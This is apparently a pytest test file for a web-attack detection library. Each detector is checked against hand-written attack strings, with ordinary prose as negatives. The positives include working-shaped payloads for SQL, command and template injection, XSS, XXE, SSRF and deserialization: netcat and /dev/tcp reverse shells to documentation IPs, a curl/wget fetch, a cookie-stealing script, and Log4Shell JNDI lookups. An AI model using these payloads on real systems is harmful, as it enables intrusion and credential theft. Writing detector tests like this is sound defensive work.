"""Each detector on hand-written attacks (one case per evasion, named) and on ordinary text.

The cases are written for these tests, not copied from the corpus: they check that a detector
understands the language of its attack (a quote that breaks out, a separator before a command,
a tag with a handler...) and that prose, names, prices, addresses and JSON stay quiet.
"""

from __future__ import annotations

import pytest

from eventguard.runtime.detectors import (
    cmdi,
    code_injection,
    crlf,
    deserialization,
    ldapi,
    log4shell,
    nosqli,
    path_traversal,
    proto_pollution,
    scan,
    sqli,
    ssrf,
    ssti,
    xss,
    xxe,
)

POSITIVES = [
    # sqli
    (sqli, "tautology after a quote", "x' OR 'a'='a"),
    (sqli, "numeric tautology", "7 or 2>1"),
    (sqli, "comment truncation", "administrator'--"),
    (sqli, "hash comment", "bob' #"),
    (sqli, "union select with comments", "9/**/UnIoN/**/SeLeCt/**/password,2/**/FROM/**/accounts"),
    (sqli, "mysql version comment", "4 /*!12345UNION*/ /*!12345SELECT*/ 1,2"),
    (sqli, "url-encoded union", "5%20union%20all%20select%20null%2Cnull"),
    (sqli, "double url encoding", "5%2520union%2520select%25201"),
    (sqli, "stacked query", "12; DROP TABLE invoices--"),
    (sqli, "time based sleep", "3' AND SLEEP(7)-- -"),
    (sqli, "mssql waitfor", "1);WAITFOR DELAY '0:0:9'--"),
    (sqli, "postgres pg_sleep", "';select pg_sleep(4)--"),
    (sqli, "error based extractvalue", "1 and extractvalue(1,concat(0x5c,user()))"),
    (sqli, "system table", "0 union select table_name from information_schema.tables"),
    (sqli, "parenthesis break-out", "') or ('q'='q"),
    (sqli, "fullwidth letters", "１' ＯＲ '１'='１"),
    (sqli, "newline as whitespace", "1'\nor\n1=1--"),
    (sqli, "string concatenation operator", "'||(select user from dual)||'"),
    (sqli, "order by probing", "2 ORDER BY 14--"),
    (sqli, "into outfile", "' union select '<?php ?>' into outfile '/var/www/x.php'-- "),
    (sqli, "stacked procedure call", "5;call getuser(@id)"),
    (sqli, "stacked bulk load", "1; load data local infile '/etc/passwd' into table t"),
    (sqli, "stacked loop", "1;while 1=1 waitfor delay '0:0:1'"),
    (sqli, "stacked bare drop", "9; drop users--"),
    (sqli, "string closed, arithmetic, string reopened", "pat' % +7 >= 'q"),
    (sqli, "string closed, call and comparison, reopened", "zz' | length(pwd) > '2"),
    (sqli, "double quotes, negated operands", 'k"XOR ~-id <> "9'),
    (sqli, "concatenation between strings", "s' || 't"),
    (sqli, "commented spaces around the expression", "id'/**/div/**/2/**/regexp/**/'7"),
    (sqli, "not between, reopened", "v' not between 3 and 8 and '5"),
    # nosqli
    (nosqli, "operator as json key", '{"user": "admin", "pass": {"$ne": 1}}'),
    (nosqli, "operator in query string", "login=admin&password[$gt]="),
    (nosqli, "operator key on its own", "$nin"),
    (nosqli, "where clause js", "'; return this.balance > 0; var x='"),
    (nosqli, "sleep in js", "'; sleep(3000); '"),
    (nosqli, "regex operator url-encoded", "user%5B%24regex%5D=adm.*"),
    # cmdi
    (cmdi, "semicolon then command", "report.pdf; uname -a"),
    (cmdi, "pipe to netcat", "x | nc 203.0.113.9 9001 -e /bin/sh"),
    (cmdi, "and-and then curl", "a && curl http://203.0.113.5/x.sh"),
    (cmdi, "dollar substitution", "$(id)"),
    (cmdi, "backtick substitution", "name=`whoami`"),
    (cmdi, "ifs instead of spaces", ";cat${IFS}/etc/shadow"),
    (cmdi, "quote splitting", ";w'h'o'a'm'i"),
    (cmdi, "backslash splitting", "|c\\at /etc/hosts"),
    (cmdi, "newline separator", "ok\nping -c 3 198.51.100.7"),
    (cmdi, "reverse shell device", "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1"),
    (cmdi, "shellshock", "() { :; }; /usr/bin/id"),
    (cmdi, "windows command", "& net user eve S3cret! /add"),
    (cmdi, "absolute path binary", "; /bin/ls -la /"),
    (cmdi, "command line handed to php's shell_exec", '<?= shell_exec("uname -a") ?>'),
    (
        cmdi,
        "python subprocess with an argument list",
        "__import__('subprocess').check_output(['id'])",
    ),
    (cmdi, "server-side include exec", '<!--#exec cmd="ls -la /home" -->'),
    (cmdi, "url-encoded separator", "file%3Bwget%20http%3A%2F%2F203.0.113.2%2Fa"),
    # code_injection
    (code_injection, "python import", "__import__('os').popen('ls').read()"),
    (code_injection, "python os.system", "os.system('touch /tmp/p')"),
    (code_injection, "node child_process", "require('child_process').execSync('id')"),
    (code_injection, "node mainModule", "process.mainModule.require('fs')"),
    (code_injection, "eval of string", "eval('1+1')"),
    (code_injection, "php system", "<?php system($_GET['c']); ?>"),
    (code_injection, "server side include", '<!--#exec cmd="cat /etc/passwd" -->'),
    (code_injection, "edge side include", '<esi:include src="http://evil.test/x"/>'),
    (code_injection, "constructor chain", "[].constructor.constructor('return process')()"),
    # path_traversal
    (path_traversal, "plain dot-dot", "../../../../etc/passwd"),
    (path_traversal, "windows backslashes", "..\\..\\windows\\win.ini"),
    (path_traversal, "url-encoded", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    (path_traversal, "double url-encoded", "%252e%252e%252fboot.ini"),
    (path_traversal, "overlong utf-8 dots", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/group"),
    (path_traversal, "unicode division slash", "..%u2215..%u2215etc%u2215passwd"),
    (path_traversal, "split-nibble escapes", "img=%2%e%2%e%2%f%2%e%2%e%2%fetc%2%fshadow"),
    (path_traversal, "split-nibble backslashes", "%2%e%2%e%5%c%2%e%2%e%5%cwindows%5%cwin.ini"),
    (path_traversal, "fullwidth dots and slash", "．．／．．／etc／passwd"),
    (path_traversal, "filter bypass with four dots", "....//....//etc/hosts"),
    (path_traversal, "absolute sensitive file", "/proc/self/environ"),
    (path_traversal, "NUL byte truncation", "avatar.png\x00../../x"),
    (path_traversal, "php filter wrapper", "php://filter/convert.base64-encode/resource=index.php"),
    (path_traversal, "windows absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    # xss
    (
        xss,
        "script url behind css escapes",
        '<b style="background:\\75rl(\\6a avascript:alert(7))">',
    ),
    (xss, "markup behind doubled css escapes", "<i style='x:\\\\3csvg\\\\20onload\\\\3d go()'>"),
    (xss, "tag with the high bit set (US-ASCII on IE)", "\xbciframe src=javascript:x\xbe"),
    (xss, "script tag", "<script>fetch('//e.test/'+document.cookie)</script>"),
    (xss, "img onerror", "<img src=x onerror=alert(1)>"),
    (xss, "svg onload no spaces", "<svg/onload=confirm`1`>"),
    (xss, "attribute break-out", '" autofocus onfocus="prompt(1)'),
    (xss, "javascript url with tab", '<a href="java\tscript:alert(1)">x</a>'),
    (xss, "javascript url with entity", '<a href="jav&#x61;script:alert(1)">x</a>'),
    (xss, "url-encoded tag", "%3Ciframe%20src%3Djavascript%3Aalert(1)%3E"),
    (xss, "fullwidth angle brackets", "＜script＞alert(1)＜/script＞"),
    (xss, "js unicode escapes", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    (
        xss,
        "mathml vector",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x',
    ),
    (xss, "data uri", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    (xss, "mixed case tag", "<ScRiPt >alert(1)</sCrIpT>"),
    # ssti
    (ssti, "jinja arithmetic", "{{7*7}}"),
    (ssti, "jinja object walk", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    (ssti, "jinja statement", "{% for c in [1,2,3] %}{{c}}{% endfor %}"),
    (ssti, "twig filter", "{{['id']|filter('system')}}"),
    (ssti, "freemarker assign", '<#assign ex="freemarker.template.utility.Execute"?new()>'),
    (ssti, "spring el", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    (ssti, "velocity set", "#set($x = 7 * 7)$x"),
    (ssti, "erb", "<%= `id` %>"),
    (ssti, "ruby interpolation", "#{7*7}"),
    (ssti, "handlebars helper", '{{#with "s" as |string|}}{{/with}}'),
    (ssti, "groovy method on a string literal", '${"whoami".execute().text}'),
    (ssti, "ognl static call", "%{(@java.lang.System@getProperty('user.dir'))}"),
    (ssti, "el reflection from a literal", "#{'a'.getClass().forName('java.lang.System')}"),
    (ssti, "twig hash literal with a callable", "{{ {'x': 'passthru'}|map('call_user_func') }}"),
    # xxe
    (xxe, "external entity", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
    (xxe, "parameter entity", '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://e.test/x.dtd"> %p;]>'),
    (xxe, "external dtd", '<!DOCTYPE r SYSTEM "http://e.test/x.dtd"><r/>'),
    (
        xxe,
        "xinclude",
        '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/hosts"/></x>',
    ),
    (xxe, "lower-case doctype", '<!doctype r [<!entity a "aaaa">]>'),
    # ssrf
    (ssrf, "hex wider than 32 bits", "http://0xdeadbeefa9fea9fe/latest/meta-data/"),
    (ssrf, "octets over 255 keep their low byte", "http://425.510.425.510/"),
    (ssrf, "aws metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    (ssrf, "loopback dotted", "https://127.0.0.1:8443/admin"),
    (ssrf, "decimal notation", "http://2130706433/"),
    (ssrf, "octal notation", "http://0177.0.0.01/"),
    (ssrf, "hex notation", "http://0x7f.0x0.0x0.0x1/"),
    (ssrf, "short form", "http://127.1/"),
    (ssrf, "ipv6 loopback", "http://[::1]:6379/"),
    (ssrf, "ipv4-mapped ipv6", "http://[::ffff:a9fe:a9fe]/latest"),
    (ssrf, "gcp metadata name", "http://metadata.google.internal/computeMetadata/v1/"),
    (ssrf, "localhost subdomain", "http://admin.localhost/"),
    (ssrf, "userinfo confusion", "http://trusted.example@10.0.0.8/"),
    (ssrf, "wildcard dns", "http://10.1.2.3.nip.io/"),
    (ssrf, "gopher scheme", "gopher://203.0.113.7:6379/_FLUSHALL"),
    (ssrf, "file scheme", "file:///etc/passwd"),
    (ssrf, "dict scheme", "dict://198.51.100.1:11211/stat"),
    (ssrf, "private range", "http://192.168.1.1/setup.cgi"),
    (ssrf, "ecs credentials", "http://169.254.170.2/v2/credentials/x"),
    (ssrf, "url-encoded dots", "http://169%2e254%2e169%2e254/"),
    # ldapi
    (ldapi, "filter close and open", "*)(uid=*))(|(uid=*"),
    (ldapi, "or filter", "x)(|(mail=*)"),
    (ldapi, "presence filter", "(objectClass=*)"),
    (ldapi, "wildcard close", "admin*)(&"),
    # crlf
    (crlf, "encoded crlf set-cookie", "/home%0d%0aSet-Cookie:%20sid=evil"),
    (crlf, "raw newline location", "ok\r\nLocation: https://evil.test/"),
    (crlf, "escaped crlf", "x\\r\\nX-Forwarded-Host: evil.test"),
    (crlf, "unicode low-byte newline", "嘍嘊Set-Cookie: a=b"),
    (crlf, "response splitting", "a%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1 200 OK"),
    # proto_pollution
    (proto_pollution, "json key", '{"__proto__": {"admin": true}}'),
    (proto_pollution, "query string", "a[__proto__][polluted]=1"),
    (proto_pollution, "object key alone", "__proto__"),
    (proto_pollution, "constructor prototype", "constructor[prototype][isAdmin]=1"),
    (proto_pollution, "json constructor prototype", '{"constructor": {"prototype": {"x": 1}}}'),
    (proto_pollution, "unicode-escaped key", '{"\\u005f\\u005fproto\\u005f\\u005f": {}}'),
    # deserialization
    (deserialization, "pyyaml apply", '!!python/object/apply:subprocess.check_output [["id"]]'),
    (deserialization, "java base64 stream", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ"),
    (deserialization, "java hex stream", "aced0005737200"),
    (deserialization, "php object", 'O:8:"Uploader":1:{s:4:"path";s:9:"/tmp/x.sh";}'),
    (deserialization, "pickle opcodes", "cos\nsystem\n(S'id'\ntR."),
    (
        deserialization,
        "pickle protocol 4 base64",
        "gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
    ),
    (deserialization, "ruby yaml", "--- !ruby/object:Gem::Installer\ni: x"),
    (
        deserialization,
        "json.net type",
        '{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
    ),
    (deserialization, "node-serialize", '{"f": "_$$ND_FUNC$$_function(){return 1}()"}'),
    # log4shell
    (log4shell, "plain jndi", "${jndi:ldap://203.0.113.9:1389/a}"),
    (log4shell, "lower lookup", "${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://x/a}"),
    (log4shell, "default value lookups", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"),
    (log4shell, "env default", "${${env:NOPE:-j}ndi${env:NOPE:-:}dns://x}"),
    (log4shell, "upper case", "${JNDI:LDAPS://x/a}"),
    (log4shell, "url-encoded", "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"),
]

NEGATIVES = [
    "O'Brien",
    "He said 'no' - then left; it's 'fine' - really",
    "Dear {{{ first_name }}}, your code is {{{code}}}.",
    "Discounts of 5%-10% and 2%e off: 15%a%b",
    "Done; drop it. Call mom(again) later; load data from the disk; drop me a line",
    "Salmon spawn('river') season; check_call('mom') later",
    "Write to ana@example.com (work) or @bob@mastodon.social (home)",
    "Add \xbc cup of sugar, stir \xbe of the way, \xbcthen\xbe bake",
    '<span style="font-family:\\5FAE\\8F6F\\96C5\\9ED1; quotes: \\201C">Hi</span>',
    "Press '*' then '#', or type 'and' / 'or' to combine terms",
    "Guns N' Roses - 'Appetite' (1987), Smith's - Jones' store",
    "It's 3' x 5' and costs 2' / 3' of the old one",
    "Mary-Jane O'Neil-Smith",
    "It's 5 o'clock; don't be late -- we're leaving at 5:15.",
    "Please select a size and update your address before you drop off the parcel.",
    "Order by Friday: union members get 10% off.",
    "The price is $19.99 (was $24.99) & shipping is free.",
    "Meet me at 221B Baker St., London NW1 6XE on 2024-03-01 at 09:30.",
    "jane.doe+news@example.com",
    '{"name": "Ana", "tags": ["a", "b"], "address": {"city": "Porto", "zip": "4000-123"}}',
    "She said \"hello\" and left; I said 'bye'.",
    "Choose 1 or 2 options, and 3 or 4 extras.",
    "I'll be there in 10-15 min... traffic is bad!!",
    "a < b and b > c, so a > c",
    "Our script for the play is due; the alert went off twice.",
    "Who's there? Which one is yours?",
    "See https://www.example.com/products/42?ref=mail&page=2 for details.",
    "Visit http://example.org/about or call +1 (555) 010-9999.",
    "Sleep well, and ping me tomorrow.",
    "The cat sat on the mat; the dog did not.",
    "Use the /help command or email support@example.com.",
    "Room 12B, 3rd floor -- ask for Dr. Müller.",
    "Ça coûte 12,50 € — à bientôt !",
    "Zażółć gęślą jaźń",
    "Tom & Jerry; Simon & Garfunkel",
    "5 AND A HALF INCHES",
    "In 1999, 50% of users said yes.",
    "Between 9 and 5 or by appointment.",
    "Hello {name}, your order #1234 has shipped.",
    "#1 rule: no phones at the table (really!)",
    "The set {1, 2, 3} has three elements.",
    "Dear Sir/Madam, re: invoice 88-1932/2024",
    "e.g. the dots... and more dots...",
    "C++ and C# are fine; Python too.",
    "Prototype due Monday; constructor meeting at 3.",
    "Rate: 4.5/5 stars * 120 reviews",
    "user_id=42&sort=name&dir=asc",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
    "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
    "NL91ABNA0417164300",
    "ISBN 978-3-16-148410-0",
    "id",
    "env",
]

DETECTORS_UNDER_TEST = [
    sqli,
    nosqli,
    cmdi,
    code_injection,
    path_traversal,
    xss,
    ssti,
    xxe,
    ssrf,
    ldapi,
    crlf,
    proto_pollution,
    deserialization,
    log4shell,
]


@pytest.mark.parametrize(
    ("module", "text"),
    [pytest.param(m, t, id=f"{m.ID}-{name}") for m, name, t in POSITIVES],
)
def test_detects(module, text):
    assert module.detect(text) is not None
    # and routing sends the text to it: every shape has a mark in the routing table
    assert module.ID in {rule for rule, _ in scan(text)}


@pytest.mark.parametrize(
    ("module", "text"),
    [
        pytest.param(m, t, id=f"{m.ID}-{i}")
        for m in DETECTORS_UNDER_TEST
        for i, t in enumerate(NEGATIVES)
    ],
)
def test_rejects_ordinary_text(module, text):
    assert module.detect(text) is None


@pytest.mark.parametrize("host", ["127.0.0.-1", "-1", "+127.0.0.1", "1_27.0.0.1", "١٢٧.0.0.1"])
def test_ssrf_a_part_with_a_sign_or_odd_digits_is_no_address(host: str) -> None:
    """int() takes these; no address parser does: a name, neither internal nor an error."""
    assert ssrf.ipv4(host) is None
    ssrf.detect(f"http://{host}/")  # never raises
